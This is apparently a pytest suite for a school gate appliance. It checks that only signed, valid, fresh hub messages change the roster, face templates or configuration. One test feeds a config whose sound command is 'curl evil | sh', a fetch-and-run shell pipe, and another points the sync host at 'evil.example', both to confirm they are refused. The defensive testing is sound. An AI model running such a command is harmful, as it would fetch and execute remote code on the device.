"""Hub -> gate messages checked and applied against a real journal database (no broker needed here).

What a school relies on: only the hub's signed, well-formed, fresh messages change the gate, each
one wholly; anything else is refused with a reason and changes nothing.
"""

from __future__ import annotations

import base64
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import jsonschema
import numpy as np
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from appliance.config import GateConfig, parse_config
from appliance.journal.db import open_database
from appliance.journal.roster_store import RosterStore
from appliance.journal.sealing import Sealer
from appliance.journal.template_store import TemplateStore
from appliance.sync.downlink import Downlink, Hooks, downlink_schema, new_message, overlay, stream_version
from appliance.sync.sealed_transport import gate_private_key, public_text, seal, sealed_context
from appliance.sync.signing import canonical, parse_public_key, public_key_text, sign
from appliance.sync.topics import Topics

SCHOOL, DEVICE = "thcs-a", "gate-01"
TOPICS = Topics("edugate", SCHOOL, DEVICE)
RESULT_SCHEMA = json.loads((Path(__file__).parent.parent / "appliance/schema/result.schema.json").read_text())


def person(pid: str, name: str, cards: list[str], role: str = "student", **extra: Any) -> dict[str, Any]:
    return {"id": pid, "full_name": name, "role": role, "class_name": "6A", "cards": cards, **extra}


class Hub:
    """Signs messages the way the hub does."""

    def __init__(self) -> None:
        self.key = Ed25519PrivateKey.generate()

    def message(self, kind: str, body: dict[str, Any], **kw: Any) -> dict[str, Any]:
        return sign(self.key, new_message(kind, SCHOOL, DEVICE, body, **kw))


@pytest.fixture
def hub() -> Hub:
    return Hub()


@pytest.fixture
def gate(tmp_path: Path, hub: Hub) -> Any:
    config = parse_config(
        {
            "device": {"id": DEVICE, "school": SCHOOL},
            "journal": {"path": str(tmp_path / "journal.db")},
            "vision": {"key_file": str(tmp_path / "templates.key")},
        }
    )
    database = open_database(config.journal.path)
    results: list[dict[str, Any]] = []
    calls: dict[str, list[Any]] = {"config": [], "resync": [], "reload": []}
    hooks = Hooks(
        config_changed=lambda c: calls["config"].append(c),
        resync=lambda first, last: calls["resync"].append(first) or 7,
        reload=lambda: calls["reload"].append(True) or "reloaded",
        template_size=lambda model: 128 if model == "m1" else None,  # m1 is the face model running here
    )
    downlink = Downlink(
        TOPICS,
        database,
        hub.key.public_key(),
        config,
        publish=lambda topic, data: results.append({"topic": topic, **json.loads(data)}),
        hooks=hooks,
    )
    downlink.results = results
    downlink.calls = calls
    yield downlink
    database.close()


def send(gate: Downlink, message: dict[str, Any] | bytes, kind: str | None = None) -> dict[str, Any]:
    payload = message if isinstance(message, bytes) else json.dumps(message).encode()
    topic_kind = kind or (message["type"].split(".")[0] if isinstance(message, dict) else "roster")
    outcome = gate.handle(TOPICS.downlink_topic(topic_kind), payload)
    result = dict(gate.results[-1])
    assert result.pop("topic") == TOPICS.result
    jsonschema.validate(result, RESULT_SCHEMA)
    assert result["ok"] is outcome.ok
    return result


def roster(gate: Downlink) -> dict[str, tuple[bool, tuple[str, ...]]]:
    return {p.id: (p.active, p.cards) for p in RosterStore(gate.database).all()}


def test_signed_snapshot_then_delta_are_applied(gate: Downlink, hub: Hub) -> None:
    snapshot = hub.message(
        "roster.snapshot",
        {"people": [person("HS1", "Nguyễn Văn An", ["04A1B2C3"]), person("HS2", "Trần Thị Bình", ["04D4E5F6"])]},
        version=1,
    )
    result = send(gate, snapshot)
    assert result["ok"], result
    assert result["ref"] == snapshot["nonce"] and result["detail"]["added"] == 2
    assert roster(gate) == {"HS1": (True, ("04A1B2C3",)), "HS2": (True, ("04D4E5F6",))}
    assert RosterStore(gate.database).by_card("04A1B2C3").full_name == "Nguyễn Văn An"

    delta = hub.message(
        "roster.delta",
        {"upsert": [person("HS3", "Lê Văn Cường", ["04D4E5F6"])], "deactivate": ["HS2"]},
        version=2,
        base_version=1,
    )
    assert send(gate, delta)["ok"]
    assert roster(gate)["HS2"][0] is False
    assert RosterStore(gate.database).by_card("04D4E5F6").id == "HS3"  # the card moved with the delta
    assert stream_version(gate.conn, "roster") == 2


def refused_unchanged(gate: Downlink, message: dict[str, Any] | bytes, reason: str, kind: str | None = None) -> None:
    before = roster(gate)
    version = stream_version(gate.conn, "roster")
    result = send(gate, message, kind)
    assert not result["ok"]
    assert reason in result["reason"], result["reason"]
    assert roster(gate) == before
    assert stream_version(gate.conn, "roster") == version


@pytest.fixture
def seeded(gate: Downlink, hub: Hub) -> Downlink:
    assert send(gate, hub.message("roster.snapshot", {"people": [person("HS1", "An", ["04A1B2C3"])]}, version=3))["ok"]
    return gate


def test_tampered_message_is_refused(seeded: Downlink, hub: Hub) -> None:
    message = hub.message(
        "roster.delta", {"upsert": [person("HS9", "Mallory", ["0BADCAFE"])]}, version=4, base_version=3
    )
    message["body"]["upsert"][0]["cards"] = ["04A1B2C3"]  # after signing
    refused_unchanged(seeded, message, "signature does not match")


def test_message_signed_by_another_key_is_refused(seeded: Downlink) -> None:
    impostor = Hub()
    message = impostor.message("roster.snapshot", {"people": []}, version=9)
    refused_unchanged(seeded, message, "signature does not match")


def test_unsigned_message_is_refused(seeded: Downlink) -> None:
    message = new_message("roster.snapshot", SCHOOL, DEVICE, {"people": []}, version=9)
    refused_unchanged(seeded, message, "not signed")


def test_signed_but_invalid_message_is_refused(seeded: Downlink, hub: Hub) -> None:
    bad_person = {"id": "HS5", "role": "student"}  # no full_name
    message = hub.message("roster.delta", {"upsert": [bad_person]}, version=4, base_version=3)
    refused_unchanged(seeded, message, "invalid message")
    lower_case_card = hub.message("roster.delta", {"upsert": [person("HS5", "B", ["04a1"])]}, version=4, base_version=3)
    refused_unchanged(seeded, lower_case_card, "invalid message")


def test_stale_version_and_out_of_order_delta_are_refused(seeded: Downlink, hub: Hub) -> None:
    refused_unchanged(seeded, hub.message("roster.snapshot", {"people": []}, version=3), "stale")
    refused_unchanged(seeded, hub.message("roster.snapshot", {"people": []}, version=2), "stale")
    gap = hub.message("roster.delta", {"deactivate": ["HS1"]}, version=6, base_version=5)
    refused_unchanged(seeded, gap, "out of order")


def test_replayed_nonce_is_refused(gate: Downlink, hub: Hub) -> None:
    command = hub.message("command", {"name": "resync", "from_seq": 5})
    assert send(gate, command)["ok"]
    assert gate.calls["resync"] == [5]
    refused_unchanged(gate, command, "replayed")
    assert gate.calls["resync"] == [5]


def test_resync_of_another_journal_is_refused(gate: Downlink, hub: Hub) -> None:
    """The hub asks by journal: seq 5 of a journal this gate replaced (salvaged after damage) is not its seq 5."""
    old = hub.message("command", {"name": "resync", "from_seq": 5, "journal": "0" * 32})
    result = send(gate, old)
    assert not result["ok"] and result["reason"] == (
        f"journal {'0' * 32} is not this gate's journal (now {gate.database.journal_id}): its events cannot be "
        "sent again"
    )
    assert gate.calls["resync"] == []
    mine = hub.message("command", {"name": "resync", "from_seq": 5, "journal": gate.database.journal_id})
    assert send(gate, mine)["ok"] and gate.calls["resync"] == [5]


def test_message_for_another_gate_or_topic_is_refused(seeded: Downlink, hub: Hub) -> None:
    other = sign(hub.key, new_message("roster.snapshot", SCHOOL, "gate-02", {"people": []}, version=10))
    refused_unchanged(seeded, other, "not this gate")
    wrong_topic = hub.message("roster.snapshot", {"people": []}, version=10)
    refused_unchanged(seeded, wrong_topic, "on the command topic", kind="command")


def test_garbage_is_refused_with_a_reason(seeded: Downlink) -> None:
    refused_unchanged(seeded, b"\xff\xfe not json", "not signed")  # no "sig" anywhere: refused unparsed
    refused_unchanged(seeded, b'\xff\xfe "sig" not json', "not a JSON document")
    refused_unchanged(seeded, b'[1, 2, "sig"]', "not a JSON object")
    assert seeded.results[-1]["ref"] is None


def test_gate_without_hub_key_obeys_nothing(gate: Downlink, hub: Hub) -> None:
    gate.hub_key = None
    refused_unchanged(gate, hub.message("roster.snapshot", {"people": []}, version=1), "no hub public key")


def b64(rows: np.ndarray) -> list[str]:
    """Templates as the downlink carries them."""
    return [base64.b64encode(r.tobytes()).decode() for r in rows]


def test_templates_are_sealed_and_replace_a_persons_rows(gate: Downlink, hub: Hub, tmp_path: Path) -> None:
    rng = np.random.default_rng(1)
    first = rng.standard_normal((2, 128)).astype("<f4")
    second = rng.standard_normal((1, 128)).astype("<f4")

    assert send(gate, hub.message("templates", {"model": "m1", "set": {"HS1": b64(first)}}, version=1))["ok"]
    assert send(gate, hub.message("templates", {"model": "m1", "set": {"HS1": b64(second)}}, version=2))["ok"]
    store = TemplateStore(gate.database, Sealer.from_file(tmp_path / "templates.key"))
    loaded = store.load("m1")
    np.testing.assert_array_equal(loaded["HS1"], second)  # replaced, not appended
    raw = gate.conn.execute("SELECT sealed FROM templates").fetchone()[0]
    assert second.tobytes() not in raw  # encrypted at rest

    nan = np.full((1, 128), np.nan, dtype="<f4")
    result = send(gate, hub.message("templates", {"model": "m1", "set": {"HS2": b64(nan)}}, version=3))
    assert not result["ok"] and "NaN" in result["reason"]
    assert set(store.load("m1")) == {"HS1"}
    assert send(gate, hub.message("templates", {"model": "m1", "remove": ["HS1"]}, version=3))["ok"]
    assert store.load("m1") == {}


def test_templates_the_running_model_cannot_match_are_refused(gate: Downlink, hub: Hub, tmp_path: Path) -> None:
    """A 512-value set (an InsightFace pack's) sent as the gate's 128-value model would be stored and then
    break every gallery load; it is refused with the sizes, and the gate's templates stay as they were."""
    rng = np.random.default_rng(3)
    good = rng.standard_normal((1, 128)).astype("<f4")
    wide = rng.standard_normal((2, 512)).astype("<f4")

    assert send(gate, hub.message("templates", {"model": "m1", "set": {"HS1": b64(good)}}, version=1))["ok"]
    body = {"model": "m1", "set": {"HS2": b64(good), "HS3": b64(wide)}}
    result = send(gate, hub.message("templates", body, version=2))
    assert not result["ok"]
    assert result["reason"] == "body/set/HS3: templates have 512 values, m1 makes 128"
    store = TemplateStore(gate.database, Sealer.from_file(tmp_path / "templates.key"))
    assert set(store.load("m1")) == {"HS1"}  # HS2 was not applied either: the message is one change
    other = send(gate, hub.message("templates", {"model": "m2", "set": {"HS3": b64(wide)}}, version=3))
    assert other["ok"]  # a model not running here is kept for when it is: its size is not known
    assert store.load("m2")["HS3"].shape == (2, 512)


def test_a_sealed_roster_opens_only_for_this_gate_and_kind_and_is_checked_like_a_clear_one(
    gate: Downlink, hub: Hub, tmp_path: Path
) -> None:
    mine = public_text(gate_private_key(tmp_path / "templates.key"))
    other = public_text(gate_private_key(tmp_path / "other.key"))
    people = [person("HS1", "Nguyễn Văn An", ["04A1B2C3"]), person("HS2", "Bình", ["04A1B2C4"])]

    def sealed(kind: str, field: str, content: Any, version: int, to: str = mine, **kw: Any) -> dict[str, Any]:
        context = sealed_context({"type": kind, "school": SCHOOL, "device": DEVICE, "body": {}, "version": version})
        body = {"sealed": seal(to, json.dumps(content).encode(), context)}
        message = hub.message(kind, body, version=version, **kw)
        assert field not in message["body"]
        return message

    refused_unchanged(gate, sealed("roster.snapshot", "people", people, 1, to=other), "another template key")
    moved = sealed("roster.delta", "upsert", people, 1, base_version=0)["body"]  # a delta's sealed people
    refused_unchanged(gate, hub.message("roster.snapshot", moved, version=1), "do not open")  # bound to its kind
    nameless = [{"id": "HS1", "role": "student"}]
    refused_unchanged(gate, sealed("roster.snapshot", "people", nameless, 1), "sealed roster: body/people/0")
    assert send(gate, sealed("roster.snapshot", "people", people, 1))["ok"]
    assert roster(gate) == {"HS1": (True, ("04A1B2C3",)), "HS2": (True, ("04A1B2C4",))}
    upsert = [person("HS3", "Cường", ["04A1B2C5"])]
    assert send(gate, sealed("roster.delta", "upsert", upsert, 2, base_version=1))["ok"]
    assert set(roster(gate)) == {"HS1", "HS2", "HS3"}
    both = hub.message(
        "roster.snapshot",
        {"people": people, "sealed": sealed("roster.snapshot", "p", [], 3)["body"]["sealed"]},
        version=3,
    )
    refused_unchanged(gate, both, "body")


def test_sealed_templates_open_only_for_this_gate_and_message(gate: Downlink, hub: Hub, tmp_path: Path) -> None:
    mine = public_text(gate_private_key(tmp_path / "templates.key"))
    vector = np.random.default_rng(2).standard_normal((1, 128)).astype("<f4")
    texts = {"HS1": [base64.b64encode(vector.tobytes()).decode()]}

    def sealed(version: int, to: str = mine, plain: Any = texts, bind: int | None = None) -> dict[str, Any]:
        context = sealed_context(
            {"school": SCHOOL, "device": DEVICE, "body": {"model": "m1"}, "version": bind or version}
        )
        body = {"model": "m1", "sealed": seal(to, json.dumps(plain).encode(), context)}
        return hub.message("templates", body, version=version)

    store = TemplateStore(gate.database, Sealer.from_file(tmp_path / "templates.key"))
    other = public_text(gate_private_key(tmp_path / "other.key"))
    result = send(gate, sealed(1, to=other))
    assert not result["ok"] and "another template key" in result["reason"]
    moved = send(gate, sealed(2, bind=1))  # sealed for version 1, sent as version 2
    assert not moved["ok"] and "do not open" in moved["reason"]
    bad = send(gate, sealed(3, plain={"HS1": ["not base64!"]}))
    assert not bad["ok"] and bad["reason"].startswith("sealed templates: body/set/HS1")
    assert store.load("m1") == {}  # nothing applied by any of them
    assert send(gate, sealed(4))["ok"]
    np.testing.assert_array_equal(store.load("m1")["HS1"], vector)
    both = hub.message("templates", {"model": "m1", "set": texts, "sealed": sealed(5)["body"]["sealed"]}, version=5)
    assert not send(gate, both)["ok"]


def test_a_journal_it_cannot_write_is_answered_and_changes_nothing(gate: Downlink, hub: Hub, tmp_path: Path) -> None:
    """Another process holds the journal's write lock past the wait (as a stuck tool or a full disk would stop
    writes): the hub gets a refusal that says why, nothing changed, and the same message applies later."""
    snapshot = hub.message("roster.snapshot", {"people": [person("HS1", "Nguyễn Văn An", ["04A1B2C3"])]}, version=1)
    other = sqlite3.connect(tmp_path / "journal.db", isolation_level=None)
    gate.conn.execute("PRAGMA busy_timeout = 0")
    other.execute("BEGIN IMMEDIATE")
    try:
        result = send(gate, snapshot)
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert not result["ok"] and result["reason"].startswith("the gate could not apply it, nothing changed")
    assert "locked" in result["reason"] and "Nguyễn" not in result["reason"]
    assert roster(gate) == {}
    assert send(gate, snapshot)["ok"] and roster(gate) == {"HS1": (True, ("04A1B2C3",))}


def test_config_section_is_validated_applied_and_kept(gate: Downlink, hub: Hub) -> None:
    policy = {
        "debounce_seconds": 5,
        "student": {"arrival_window": ["06:00", "08:00"], "departure_window": ["10:00", "18:00"], "start": "07:30"},
    }
    assert send(gate, hub.message("config", {"policy": policy}, version=1))["ok"]
    (changed,) = gate.calls["config"]
    assert changed.policy.debounce_seconds == 5 and changed.policy.student.start.hour == 7
    assert changed.device.id == DEVICE  # other sections untouched
    # An invalid section is refused and leaves the kept overlay as it was.
    broken = {**policy, "student": {**policy["student"], "start": "25:00"}}
    result = send(gate, hub.message("config", {"policy": broken}, version=2))
    assert not result["ok"] and "policy.student.start" in result["reason"]
    assert len(gate.calls["config"]) == 1
    # The hub may not move a gate to another broker or journal.
    result = send(gate, hub.message("config", {"sync": {"host": "evil.example"}}, version=2))
    assert not result["ok"] and "invalid message" in result["reason"]
    # What was applied is laid over gate.toml again at the next start.
    from appliance.sync.downlink import hub_config_sections

    restarted = overlay(GateConfig(device={"id": DEVICE, "school": SCHOOL}), hub_config_sections(gate.conn))
    assert restarted.policy.debounce_seconds == 5


def test_old_commands_are_refused_when_the_clock_is_good(gate: Downlink, hub: Hub) -> None:
    old = new_message("command", SCHOOL, DEVICE, {"name": "reload"})
    old["issued_at"] = (datetime.now(UTC) - timedelta(days=2)).isoformat(timespec="seconds")
    result = send(gate, sign(hub.key, old))
    assert not result["ok"] and "stale command" in result["reason"]
    assert gate.calls["reload"] == []
    assert send(gate, hub.message("command", {"name": "reload"}))["ok"]
    assert gate.calls["reload"] == [True]


def test_signature_covers_canonical_json_and_keys_round_trip(hub: Hub) -> None:
    message = hub.message("command", {"name": "reload"})
    reordered = json.loads(json.dumps(message, indent=3, sort_keys=False))
    assert canonical(reordered) == canonical(message)
    key = parse_public_key(public_key_text(hub.key.public_key()))
    from appliance.sync.signing import verify

    verify(key, reordered)
    jsonschema.validate(message, downlink_schema())


def test_keygen_writes_a_private_key_and_the_public_half_gates_load(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from appliance.cli import main
    from appliance.sync.signing import load_private_key, load_public_key, verify

    key_file = tmp_path / "hub.key"
    result = CliRunner().invoke(main, ["sync", "keygen", "--out", str(key_file)])
    assert result.exit_code == 0, result.output
    assert key_file.stat().st_mode & 0o777 == 0o600
    public = load_public_key(None, tmp_path / "hub.key.pub")
    message = sign(load_private_key(key_file), new_message("command", SCHOOL, DEVICE, {"name": "reload"}))
    verify(public, message)
    again = CliRunner().invoke(main, ["sync", "keygen", "--out", str(key_file)])
    assert again.exit_code == 1 and "refusing to overwrite" in again.output


def test_unreadable_or_wrong_public_keys_are_named(tmp_path: Path) -> None:
    from appliance.sync.signing import SigningKeyError, load_public_key

    with pytest.raises(SigningKeyError, match=r"missing\.pub: cannot read"):
        load_public_key(None, tmp_path / "missing.pub")
    with pytest.raises(SigningKeyError, match="32 bytes"):
        load_public_key(base64.b64encode(b"short").decode(), None)


def test_the_retained_snapshot_seen_again_is_quietly_ignored(gate: Downlink, hub: Hub) -> None:
    """A retained roster comes back at every reconnect: no refusal, no answer, nothing changed."""
    snapshot = hub.message("roster.snapshot", {"people": [person("HS1", "An", ["04A1B2C3"])]}, version=5)
    assert send(gate, snapshot)["ok"]
    answers = len(gate.results)
    outcome = gate.handle(TOPICS.downlink_topic("roster"), json.dumps(snapshot).encode())
    assert outcome.ok and outcome.detail == {"already_applied": True}
    assert len(gate.results) == answers and gate.refused == 0
    newer = hub.message("roster.snapshot", {"people": []}, version=6)
    assert send(gate, newer)["ok"]
    refused_unchanged(gate, snapshot, "replayed")  # an older message replayed is still refused, loudly


def test_the_hub_may_not_set_programs_files_or_pins(gate: Downlink, hub: Hub) -> None:
    from appliance.sync.downlink import hub_config_sections

    for body in (
        {"feedback": {"sound": {"command": ["/bin/sh", "-c", "curl evil | sh"]}}},
        {"feedback": {"gpio": {"green_led": 4}}},
    ):
        result = send(gate, hub.message("config", body, version=1))
        assert not result["ok"] and "the hub may not set feedback." in result["reason"]
    assert gate.calls["config"] == [] and hub_config_sections(gate.conn) == {}
    assert send(gate, hub.message("config", {"feedback": {"show_names": False}}, version=1))["ok"]
    (applied,) = gate.calls["config"]
    assert applied.feedback.show_names is False and applied.feedback.sound.command == ["aplay", "-q"]


def test_a_config_the_gate_cannot_run_is_refused_and_not_kept(gate: Downlink, hub: Hub) -> None:
    from appliance.sync.downlink import hub_config_sections

    def cannot(config: GateConfig) -> None:
        raise RuntimeError("GPIO pin 17 is already in use")

    gate.hooks.config_changed = cannot
    result = send(gate, hub.message("config", {"feedback": {"outputs": ["gpio"]}}, version=1))
    assert not result["ok"] and "GPIO pin 17" in result["reason"]
    assert hub_config_sections(gate.conn) == {} and stream_version(gate.conn, "config") == 0


def test_hub_settings_are_laid_over_gate_toml_as_it_is_now(tmp_path: Path, hub: Hub) -> None:
    """After a SIGHUP reload the next hub change must not bring back what IT changed in gate.toml."""
    file_config = {
        "now": parse_config({"device": {"id": DEVICE, "school": SCHOOL}, "roster": {"columns": {"class": "Lớp"}}})
    }
    database = open_database(tmp_path / "journal.db")
    applied: list[GateConfig] = []
    downlink = Downlink(
        TOPICS,
        database,
        hub.key.public_key(),
        lambda: file_config["now"],
        publish=lambda topic, data: None,
        hooks=Hooks(config_changed=applied.append),
    )
    file_config["now"] = parse_config(
        {
            "device": {"id": DEVICE, "school": SCHOOL},
            "feedback": {"show_names": False},
            "roster": {"columns": {"class": "Lớp"}},
        }
    )
    outcome = downlink.handle(
        TOPICS.downlink_topic("config"),
        json.dumps(hub.message("config", {"policy": {"debounce_seconds": 3}}, version=1)).encode(),
    )
    assert outcome.ok, outcome.reason
    assert applied[-1].feedback.show_names is False and applied[-1].policy.debounce_seconds == 3
    assert applied[-1].roster.columns.class_name == "Lớp"
    database.close()


def test_refusals_never_quote_personal_values(seeded: Downlink, hub: Hub) -> None:
    name = "Nguyễn Văn Bí Mật"
    message = hub.message("roster.delta", {"upsert": [person("HS7", name, ["04a1b2c3"])]}, version=4, base_version=3)
    result = send(seeded, message)
    assert not result["ok"] and "04a1b2c3" not in result["reason"] and name not in result["reason"]


def test_a_message_over_the_size_limit_is_refused_unparsed_and_named_by_its_nonce(gate: Downlink, hub: Hub) -> None:
    big = hub.message(
        "roster.snapshot", {"people": [person(f"HS{i}", "An", [f"04{i:06X}"]) for i in range(200)]}, version=1
    )
    payload = json.dumps(big).encode()
    gate.max_bytes = len(payload) - 1
    result = send(gate, payload)
    assert (
        not result["ok"] and f"message of {len(payload):,} bytes is larger than this gate accepts" in result["reason"]
    )
    assert result["ref"] == big["nonce"] and result["type"] == "roster.snapshot"  # the hub's --wait can match it
    assert roster(gate) == {} and stream_version(gate.conn, "roster") == 0
    gate.max_bytes = len(payload)
    assert send(gate, payload)["ok"] and len(roster(gate)) == 200


def test_the_size_limit_takes_a_school_of_3000_with_5_templates_each(gate: Downlink, hub: Hub) -> None:
    """5 per person is what enrollment by camera takes; the limit must leave a real school's templates through."""
    from appliance.sync.downlink import MAX_DOWNLINK_BYTES

    rng = np.random.default_rng(3)
    content = {f"HS{i:05d}": b64(rng.standard_normal((5, 128)).astype("<f4")) for i in range(3000)}
    message = new_message("templates", SCHOOL, DEVICE, {"model": "m1"}, version=1)
    recipient = public_text(gate_private_key(gate.base_config().vision.key_file))
    plain = json.dumps(content, separators=(",", ":")).encode()
    message["body"]["sealed"] = seal(recipient, plain, sealed_context(message))
    payload = json.dumps(sign(hub.key, message), separators=(",", ":")).encode()
    assert 13_000_000 < len(payload) < MAX_DOWNLINK_BYTES / 2  # room for twice as many templates
    result = send(gate, payload, "templates")
    assert result["ok"], result["reason"]
    assert result["detail"]["templates"] == 15_000


def test_a_version_or_seq_that_is_not_an_integer_is_refused_and_the_stream_goes_on(gate: Downlink, hub: Hub) -> None:
    """JSON Schema's "integer" takes 20.0: stored as "20.0", it refused every later config with a ValueError."""
    for version, what in ((20.0, "not a number with a decimal point (20.0)"), (True, "not a boolean")):
        result = send(gate, hub.message("config", {"policy": {"debounce_seconds": 5}}, version=version))
        assert (
            not result["ok"] and result["reason"] == f"invalid message: version must be an integer such as 20, {what}"
        )
    assert stream_version(gate.conn, "config") == 0 and gate.calls["config"] == []
    assert send(gate, hub.message("config", {"policy": {"debounce_seconds": 5}}, version=21))["ok"]
    assert stream_version(gate.conn, "config") == 21
    result = send(gate, hub.message("command", {"name": "resync", "from_seq": 5.0}))
    assert not result["ok"] and "body/from_seq must be an integer" in result["reason"] and gate.calls["resync"] == []
    delta = hub.message("roster.delta", {"deactivate": ["HS1"]}, version=2, base_version=0.0)
    assert "base_version must be an integer" in send(gate, delta)["reason"]


def test_a_stream_an_older_gate_stored_as_20_0_is_not_wedged(gate: Downlink, hub: Hub) -> None:
    gate.conn.execute("INSERT INTO meta(key, value) VALUES ('downlink.config', '20.0')")
    assert stream_version(gate.conn, "config") == 20
    assert "not newer than 20" in send(gate, hub.message("config", {"policy": {}}, version=20))["reason"]
    assert send(gate, hub.message("config", {"policy": {"debounce_seconds": 5}}, version=21))["ok"]
    assert stream_version(gate.conn, "config") == 21


def test_parents_contacts_in_a_hub_roster_are_dropped_on_arrival(gate: Downlink, hub: Hub, tmp_path: Path) -> None:
    """The hub does not send them; should any sender, the gate keeps neither in its rows nor in its file."""
    phone, email = "+84912345678", "me.phuhuynh@example.vn"
    parent = {"parent_phones": [phone], "parent_emails": [email]}
    snapshot = hub.message("roster.snapshot", {"people": [person("HS1", "An", ["04A1B2C3"], **parent)]}, version=1)
    assert send(gate, snapshot)["ok"]
    delta = hub.message(
        "roster.delta", {"upsert": [person("HS2", "Bình", ["04D4E5F6"], **parent)]}, version=2, base_version=1
    )
    assert send(gate, delta)["ok"]
    people = RosterStore(gate.database).all()
    assert [p.id for p in people] == ["HS1", "HS2"]
    assert all(p.parent_phones == () and p.parent_emails == () for p in people)
    files = b"".join(f.read_bytes() for f in tmp_path.glob("journal.db*"))
    assert b"04A1B2C3" in files  # the roster is in these bytes
    assert phone[3:].encode() not in files and email.encode() not in files
